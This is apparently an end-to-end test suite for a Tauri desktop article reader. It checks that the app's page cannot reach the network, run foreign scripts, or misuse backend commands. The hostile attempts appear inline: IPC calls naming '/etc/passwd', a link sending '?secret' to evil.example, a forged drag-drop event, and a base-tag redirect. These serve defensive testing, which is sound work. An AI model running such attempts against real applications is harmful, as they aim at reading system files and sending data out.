//! What the window itself must do: pictures, dialogs, long lists, and no way out of the page.

#![allow(clippy::unwrap_used, clippy::panic, reason = "a test stops where it fails")]

mod support;

use std::path::Path;

use fantoccini::key::Key;
use support::{Room, article, press, take_in};

const RED: &[u8] = include_bytes!("red.png");

#[tokio::test]
async fn a_picture_beside_the_article_is_shown_and_one_on_the_web_is_not_fetched() {
    let room = Room::with(&[]);
    let with = |number, url: &str| {
        let images = format!("\nimages:\n  - url: \"{url}\"\n    width: 8\n    height: 6\n---\n\n");
        article(number, "A picture").replace("---\n\n", &images)
    };
    std::fs::write(room.site().join("red.png"), RED).unwrap();
    std::fs::write(room.file(0), with(0, "red.png")).unwrap();
    std::fs::write(room.file(1), with(1, "https://pictures.example/far.jpg")).unwrap();
    let session = room.start_with_all_taken_in().await;
    let shown = "[...document.querySelectorAll('[data-test=row] img')].filter(picture => picture.naturalWidth > 0)";
    session.wait_until("the near picture is shown", &format!("{shown}.length === 1")).await.unwrap();
    let sources = session.script("return [...document.images].map(picture => picture.src)").await.unwrap();
    let sources: Vec<String> = serde_json::from_value(sources).unwrap();
    assert!(sources.iter().all(|source| source.starts_with("picture://")), "{sources:?}");
    session.close().await.unwrap();
}

#[tokio::test]
async fn the_page_reaches_no_network_and_runs_no_foreign_script() {
    let room = Room::with(&["One"]);
    // A server that would notice: nothing may ever connect to it.
    let server = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    server.set_nonblocking(true).unwrap();
    let address = format!("http://{}", server.local_addr().unwrap());
    let session = room.start_with_all_taken_in().await;
    let attempt = format!(
        "window.tries = []; const note = name => () => window.tries.push(name); \
         fetch('{address}/fetch').then(note('fetch got through'), note('fetch refused')); \
         const picture = new Image(); picture.onload = note('picture got through'); picture.onerror = note('picture refused'); \
         picture.src = '{address}/picture.png'; \
         const script = document.createElement('script'); script.textContent = 'window.foreign = true'; document.body.append(script); \
         location.href = '{address}/away';"
    );
    session.script(&attempt).await.unwrap();
    session.wait_until("both tries ended", "window.tries.length === 2").await.unwrap();
    let tries = session.script("return window.tries.sort()").await.unwrap();
    assert_eq!(tries, serde_json::json!(["fetch refused", "picture refused"]));
    assert_eq!(session.script("return window.foreign ?? null").await.unwrap(), serde_json::Value::Null);
    assert_eq!(session.client.current_url().await.unwrap().scheme(), "tauri", "the page cannot be led away");
    assert!(server.accept().is_err(), "something connected to the server");
    session.close().await.unwrap();
}

#[tokio::test]
async fn a_page_that_was_taken_over_names_no_file_and_sends_nothing_out() {
    let room = Room::with(&["One"]);
    let session = room.start_with_all_taken_in().await;
    let attempt = "window.tries = []; const { invoke } = window.__TAURI_INTERNALS__; \
         const ask = (name, what) => invoke(name, what).then(() => window.tries.push(`${name} got through`), \
           () => window.tries.push(`${name} refused`)); \
         const progress = '__CHANNEL__:7'; const dropped = { what: 'dropped', token: 'forged', items: 1 }; \
         ask('take_in', { chosen: '/etc', progress }); ask('take_in', { paths: ['/etc'], progress }); \
         ask('open_refused', { file: '/etc/passwd' }); ask('watch_folders', { chosen: '/etc' }); \
         ask('save_settings', { changed: { watched: ['/etc'] } }); \
         ask('open_link', { id: 1, url: 'https://evil.example/?secret' }); \
         ask('plugin:event|emit', { event: 'dragged', payload: dropped }); \
         ask('plugin:event|emit', { event: 'tauri://drag-drop', payload: { paths: ['/etc'], position: { x: 1, y: 1 } } }); \
         const base = document.createElement('base'); base.href = 'https://evil.example/'; document.head.append(base);";
    session.script(attempt).await.unwrap();
    session.wait_until("all tries ended", "window.tries.length === 8").await.unwrap();
    let tries: Vec<String> = serde_json::from_value(session.script("return window.tries").await.unwrap()).unwrap();
    assert!(tries.iter().all(|tried| tried.ends_with("refused")), "{tries:?}");
    let base = session.script("return document.baseURI").await.unwrap();
    assert!(base.as_str().unwrap().starts_with("tauri://"), "addresses lead elsewhere: {base}");
    session.close().await.unwrap();
}

#[tokio::test]
async fn files_are_picked_in_the_systems_dialog() {
    let room = Room::with(&["Reef robots count coral"]);
    let session = room.start().await;
    session.focus().await.unwrap();
    session.press_with(&[Key::Shift], 'O').await.unwrap();
    pick(&room.file(0)).await;
    session.element("receipt").await.unwrap();
    press(&session, Key::Escape).await;
    session.wait_for_count("inbox", 1).await.unwrap();
    session.close().await.unwrap();
}

/// Types a path into the system's dialog.
async fn pick(file: &Path) {
    let file = file.to_str().unwrap();
    let dialog = ["search", "--sync", "--onlyvisible", "--name", "^Take in files$", "windowfocus", "--sync"];
    e2e::pointer(&dialog).await.unwrap();
    e2e::pointer(&["key", "ctrl+l"]).await.unwrap();
    e2e::pointer(&["type", "--delay", "5", file]).await.unwrap();
    // While the dialog reads the folder for its completion, it swallows the key: it is the dialog's to take it.
    while e2e::pointer(&["search", "--onlyvisible", "--name", "^Take in files$"]).await.is_ok() {
        e2e::pointer(&["key", "Return", "sleep", "0.2"]).await.unwrap();
    }
}

#[tokio::test]
async fn a_list_of_thousands_scrolls_without_a_blank_row() {
    let room = Room::with(&[]);
    for number in 0..3_000 {
        let text = article(number % 27, &format!("Report {number}"));
        std::fs::write(room.file(number), text).unwrap();
    }
    let session = room.start_with_all_taken_in().await;
    session.wait_for_count("inbox", 3_000).await.unwrap();
    press(&session, Key::End).await;
    let last =
        "document.querySelector('[data-test=row][aria-selected=true]')?.getAttribute('aria-posinset') === '3000'";
    session.wait_until("the last article is selected", last).await.unwrap();
    session.wait_until("its row is read", "!document.querySelector('[data-test=row]:not([data-id])')").await.unwrap();
    let rows = session.rows().await.unwrap();
    assert!(rows.iter().all(|row| row.text.contains("Report")), "{rows:?}");
    take_in(&session, &room.site()).await;
    session.wait_for_count("inbox", 3_000).await.unwrap();
    session.close().await.unwrap();
}
